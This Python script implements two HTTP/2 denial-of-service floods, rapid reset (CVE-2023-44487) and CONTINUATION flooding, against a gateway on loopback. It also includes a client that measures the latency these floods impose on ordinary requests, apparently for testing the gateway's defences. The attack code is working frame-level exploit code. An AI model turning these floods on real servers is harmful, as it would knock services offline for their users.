#!/usr/bin/env python3
"""HTTP/2 floods against the gateway's public port, and the client that measures what they cost others.

  h2floods.py client PORT SECONDS RATE     GETs /limited/x (X-API-Key: bench) over one HTTP/1.1 keep-alive connection,
                                           RATE a second, for SECONDS; prints "count errors p50_ms p99_ms max_ms"
  h2floods.py reset PORT SECONDS           rapid reset (CVE-2023-44487): on a new h2c connection after another, HEADERS of
                                           a GET of /limited/x each followed by its RST_STREAM (CANCEL), 100 streams a
                                           write, until the server closes the connection; for SECONDS; prints
                                           "connections goaways streams cpu_seconds"
  h2floods.py continuation PORT SECONDS    CONTINUATION flood: on a new h2c connection after another, a HEADERS frame
                                           without END_HEADERS, then 16 KB CONTINUATION frames, until the server closes
                                           the connection; for SECONDS; prints "connections goaways bytes cpu_seconds"

Loopback only: every connection goes to 127.0.0.1, the client's from 127.0.0.1 and the attackers' from SOURCE (env,
127.0.0.2 by default; Linux routes all of 127/8 to lo), so the server tells them apart by address. Every loop is
bounded by SECONDS. Standard library only (header blocks are HPACK literals). cpu_seconds: the attacker's own CPU.
"""
import http.client
import os
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SOURCE = os.environ.get("SOURCE", "127.0.0.2")


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    # literal without indexing, new name, no Huffman (RFC 7541 6.2.2); every string here is shorter than 127 bytes
    name, value = name.encode(), value.encode()
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def block(port, path):
    return (literal(":method", "GET") + literal(":scheme", "http") + literal(":authority", "127.0.0.1:%d" % port)
            + literal(":path", path) + literal("x-api-key", "flood"))


def goaway_seen(sock, pending):
    """Reads what the server sent so far without waiting (kept in pending); True once a GOAWAY frame or the end came."""
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return True
            pending += data
    except BlockingIOError:
        pass
    except OSError:
        return True
    finally:
        sock.setblocking(True)
    while len(pending) >= 9:
        length = int.from_bytes(pending[0:3], "big")
        if len(pending) < 9 + length:
            break
        if pending[3] == 0x7:
            return True
        del pending[:9 + length]
    return False


def flood(port, seconds, batch_of):
    end = time.time() + seconds
    connections = goaways = sent = 0
    while time.time() < end:
        connections += 1
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(SOURCE, 0))
        except OSError:
            goaways += 1  # refused (or no local port free): the next try
            continue
        try:
            sock.sendall(PREFACE + frame(4, 0, 0))
            state = {"stream": 1}
            pending = bytearray()
            while time.time() < end:
                data = batch_of(state)
                sock.sendall(data)
                sent += len(data)
                if goaway_seen(sock, pending):
                    goaways += 1
                    break
        except OSError:
            goaways += 1  # closed under the flood
        finally:
            sock.close()
    return connections, goaways, sent


def rapid_reset(port, seconds):
    request = block(port, "/limited/x")
    cancel = b"\x00\x00\x00\x08"

    def batch(state):
        out = bytearray()
        for _ in range(100):
            out += frame(1, 0x5, state["stream"], request) + frame(3, 0, state["stream"], cancel)
            state["stream"] += 2
        return bytes(out)

    connections, goaways, sent = flood(port, seconds, batch)
    print(connections, goaways, sent // 78, "%.2f" % time.process_time())


def continuation(port, seconds):
    first = block(port, "/limited/x")
    filler = b"a" * 16384

    def batch(state):
        if state["stream"] == 1:
            state["stream"] = 3
            return frame(1, 0x1, 1, first) + frame(9, 0, 1, filler)
        return frame(9, 0, 1, filler)

    print(*flood(port, seconds, batch), "%.2f" % time.process_time())


def client(port, seconds, rate):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10, source_address=("127.0.0.1", 0))
    latencies, errors = [], 0
    interval = 1.0 / rate
    start = time.time()
    due = start
    while time.time() - start < seconds:
        due += interval
        begin = time.perf_counter()
        try:
            connection.request("GET", "/limited/x", headers={"X-API-Key": "bench"})
            answer = connection.getresponse()
            answer.read()
            if answer.status != 200:
                errors += 1
        except (OSError, http.client.HTTPException):
            errors += 1
            connection.close()
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10, source_address=("127.0.0.1", 0))
            continue
        latencies.append((time.perf_counter() - begin) * 1000)
        pause = due - time.time()
        if pause > 0:
            time.sleep(pause)
    latencies.sort()

    def pct(p):
        return latencies[min(len(latencies) - 1, int(len(latencies) * p))] if latencies else float("nan")

    print(len(latencies), errors, "%.3f" % pct(0.50), "%.3f" % pct(0.99), "%.3f" % (latencies[-1] if latencies else 0))


if __name__ == "__main__":
    what, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    if what == "client":
        client(port, seconds, float(sys.argv[4]))
    elif what == "reset":
        rapid_reset(port, seconds)
    elif what == "continuation":
        continuation(port, seconds)
    else:
        sys.exit("unknown: " + what)
